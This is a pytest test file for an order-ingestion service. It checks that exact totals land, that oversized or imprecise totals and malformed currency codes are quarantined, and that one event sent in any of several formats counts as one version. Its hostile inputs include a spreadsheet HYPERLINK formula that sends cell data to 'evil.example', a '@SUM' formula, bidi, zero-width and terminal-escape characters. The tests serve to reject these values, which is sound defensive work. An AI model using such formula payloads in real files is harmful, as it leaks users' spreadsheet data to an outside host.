"""Values from outside land exactly or not at all, on both warehouses: a total sent as a JSON number is
read from its text (never through a float) and bounded at 12 integer digits, pushed or pulled;
currency codes have ISO 4217's form and one spelling; order ids with control, zero-width or bidi
characters are quarantined with the reason while the rest of the batch lands. The same event sent as
a JSON array, NDJSON, CSV and Parquet is one version."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import orjson
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from factories import push_event, vtex_order_json
from ordersync.facade import Ordersync
from ordersync.land.records import MAX_CENTS, MAX_UNITS
from ordersync.sources.push.bodies import json_items, ndjson_items
from ordersync.sources.push.events import parse_pushed
from ordersync.tenants import Tenant
from ordersync.text import printable
from support.properties import examples
from support.sim import settings_for

BIG = "123456789012.34"  # 14 significant digits: the largest totals have as many
UTC_ZONE = ZoneInfo("UTC")


@pytest.fixture
def app(warehouse_url: str, tmp_path: Path) -> Iterator[Ordersync]:
    with Ordersync(settings_for(warehouse_url, tmp_path)) as a:
        a.add_tenant("app", platform="push", account=None, base_url=None, app_key_env=None, app_token_env=None)
        a.add_tenant("store", account="store", base_url="http://127.0.0.1:9", app_key_env=None, app_token_env=None)
        yield a


def _receive(app: Ordersync, body: bytes, ndjson: bool = False) -> dict[str, Any]:
    tenant: Tenant = app.tenants.get("app")
    items = ndjson_items(body) if ndjson else json_items(body)
    answer = app.push_receiver().receive(tenant, items, idempotency_key=None, request=body)
    assert answer.status == 200, answer.body
    return dict(answer.body)


def _raw(order_id: str, total: str, currency: str = "BRL") -> bytes:
    """An event whose total_value is the JSON text `total` as is (a number, or a quoted string)."""
    doc = orjson.dumps(push_event(order_id, total_value=0, currency_code=currency))
    return doc.replace(b'"total_value":0', b'"total_value":' + total.encode())


def _landed(app: Ordersync) -> dict[str, tuple[Decimal, str]]:
    rows = app.wh.query("SELECT order_id, total_value, currency_code FROM cdp.orders_landing")
    return {str(r[0]): (Decimal(r[1]), str(r[2])) for r in rows}


def _reasons(app: Ordersync) -> dict[str | None, str]:
    return {r[0]: str(r[1]) for r in app.wh.query("SELECT order_id, reason FROM cdp.quarantine")}


@pytest.mark.parametrize("ndjson", [False, True], ids=["json-array", "ndjson"])
def test_a_total_sent_as_a_number_lands_exactly_or_is_quarantined_saying_why(app: Ordersync, ndjson: bool) -> None:
    items = [
        _raw("exact", BIG),
        _raw("largest", str(MAX_UNITS)),
        _raw("cents", "0.10"),
        _raw("too-large", "1234567890123456.78"),  # a float would make it ...456.8: kept nowhere
        _raw("just-over", "1000000000000.00"),
        _raw("three-places", "12.300000000000000001"),  # a float would make it 12.3
    ]
    body = b"\n".join(items) if ndjson else b"[" + b",".join(items) + b"]"
    answer = _receive(app, body, ndjson)
    assert (answer["landed"], answer["quarantined"]) == (3, 3), answer
    assert _landed(app) == {
        "exact": (Decimal(BIG), "BRL"),
        "largest": (Decimal("999999999999.99"), "BRL"),
        "cents": (Decimal("0.10"), "BRL"),
    }
    reasons = _reasons(app)
    assert "total_value 1234567890123456.78 is too large" in reasons["too-large"]
    assert "at most 999,999,999,999.99" in reasons["just-over"]
    assert "12.300000000000000001 has more than two decimal places" in reasons["three-places"]
    payload = orjson.loads(app.wh.scalar("SELECT payload FROM cdp.orders_landing WHERE order_id = 'exact'"))
    assert payload["total_value"] == BIG


def test_currency_codes_have_one_spelling_and_the_rest_is_quarantined(app: Ordersync) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
    events = [
        push_event("upper", currency_code="BRL"),
        push_event("lower", currency_code="brl"),
        push_event("formula", currency_code=formula),
        push_event("symbol", currency_code="R$"),
        push_event("spaced", currency_code=" BRL"),
        push_event("long", currency_code="BRLX"),
    ]
    answer = _receive(app, orjson.dumps(events))
    assert (answer["landed"], answer["quarantined"]) == (2, 4), answer
    assert _landed(app) == {"upper": (Decimal("129.90"), "BRL"), "lower": (Decimal("129.90"), "BRL")}
    reasons = _reasons(app)
    assert set(reasons) == {"formula", "symbol", "spaced", "long"}
    assert all("is not a currency code: use ISO 4217's three letters" in r for r in reasons.values())
    # the same event with its code in either case is one version
    again = _receive(app, orjson.dumps([push_event("upper", currency_code="brl")]))
    assert (again["landed"], again["duplicates"]) == (0, 1), again


@pytest.mark.parametrize(
    ("order_id", "says"),
    [
        ("A-1\u202e", "a bidi control character (\\u202e RIGHT-TO-LEFT OVERRIDE) at position 4"),
        ("A\u200b-1", "a zero-width character (\\u200b ZERO WIDTH SPACE) at position 2"),
        ("\u2066A-1", "a bidi control character (\\u2066"),
        ("\ufeffA-1", "a zero-width character (\\ufeff"),
        ("A-1\u061c", "a bidi control character (\\u061c"),
        ("A\x1b[2J", "a control character (\\x1b) at position 2"),
    ],
)
def test_order_ids_with_invisible_or_reordering_characters_are_quarantined(
    app: Ordersync, order_id: str, says: str
) -> None:
    pushed = _receive(app, orjson.dumps([push_event(order_id), push_event("fine")]))
    pulled = app.land_records("store", [vtex_order_json(order_id), vtex_order_json("fine-too")])
    assert (pushed["landed"], pushed["quarantined"], pulled.landed, pulled.quarantined) == (1, 1, 1, 1)
    rows = app.wh.query("SELECT reason, order_id FROM cdp.quarantine ORDER BY quarantine_id")
    assert len(rows) == 2 and all(says in str(r[0]) for r in rows), rows
    # the quarantine names the id with the character escaped, for whoever reads the column
    assert [r[1] for r in rows] == [printable(order_id)] * 2 and printable(order_id) != order_id
    assert set(_landed(app)) == {"fine", "fine-too"}


def test_vtex_bodies_are_bounded_the_same_way(app: Ordersync) -> None:
    result = app.land_records(
        "store",
        [
            vtex_order_json("max", value=MAX_CENTS, storePreferencesData={"currencyCode": "usd"}),
            vtex_order_json("over", value=MAX_CENTS + 1),
            vtex_order_json("half-cent", value=1299.5),
            vtex_order_json("whole-float", value=1299.0),
            vtex_order_json("formula", storePreferencesData={"currencyCode": "@SUM(A1)"}),
        ],
    )
    assert (result.landed, result.quarantined) == (2, 3), result.reasons
    assert _landed(app) == {"max": (Decimal("999999999999.99"), "USD"), "whole-float": (Decimal("12.99"), "BRL")}
    reasons = _reasons(app)
    assert "at most 99,999,999,999,999 cents (999,999,999,999.99)" in reasons["over"]
    assert "has a fraction of a cent" in reasons["half-cent"]
    assert "'@SUM(A1)' is not a currency code" in reasons["formula"]


def _csv(path: Path, event: dict[str, Any]) -> Path:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(event))
    writer.writeheader()
    writer.writerow(event)
    path.write_text(out.getvalue())
    return path


def _parquet(path: Path, event: dict[str, Any]) -> Path:
    columns: dict[str, Any] = {k: [v] for k, v in event.items()}
    columns["total_value"] = pa.array([Decimal(event["total_value"])], pa.decimal128(14, 2))
    pq.write_table(pa.table(columns), path)
    return path


def test_one_event_in_every_format_is_one_version(app: Ordersync, tmp_path: Path) -> None:
    """A 14-digit total as a JSON number (array and NDJSON) or as text (CSV), a decimal column
    (Parquet), the currency in either case: one version, landed once."""
    event = push_event("every-format", total_value=0, currency_code="brl")
    number = orjson.dumps(event).replace(b'"total_value":0', f'"total_value":{BIG}'.encode())
    first = _receive(app, b"[" + number + b"]")
    again = _receive(app, number + b"\n", ndjson=True)
    text = {**event, "total_value": BIG, "currency_code": "BRL"}
    files = app.ingest_files("app", [_csv(tmp_path / "e.csv", text), _parquet(tmp_path / "e.parquet", text)])
    assert (first["landed"], again["duplicates"]) == (1, 1), (first, again)
    assert [(f.landed, f.duplicates, f.quarantined) for f in files] == [(0, 1, 0), (0, 1, 0)], [
        f.reasons for f in files
    ]
    assert _landed(app) == {"every-format": (Decimal(BIG), "BRL")}


@settings(max_examples=examples(100))
@given(cents=st.integers(0, MAX_CENTS), zeros=st.integers(0, 3), exponent=st.booleans())
def test_any_total_within_the_bound_is_read_exactly_however_it_is_written(
    cents: int, zeros: int, exponent: bool
) -> None:
    """The total as a JSON number (with trailing zeros, or an exponent) in an array or an NDJSON line,
    or as a string: the same exact total and the same version."""
    text = f"{cents // 100}.{cents % 100:02d}"
    number = f"{cents}e-2" if exponent else text + "0" * zeros
    versions = [
        parse_pushed(item, UTC_ZONE)
        for body, reader in (
            (b"[" + _raw("p", number) + b"," + _raw("q", "1.5") + b"]", json_items),
            (_raw("p", number), ndjson_items),
            (_raw("p", f'"{text}"'), ndjson_items),
        )
        for item in reader(body)[:1]
    ]
    assert {v.total_value for v in versions} == {Decimal(text)}
    assert len({v.payload_hash for v in versions}) == 1
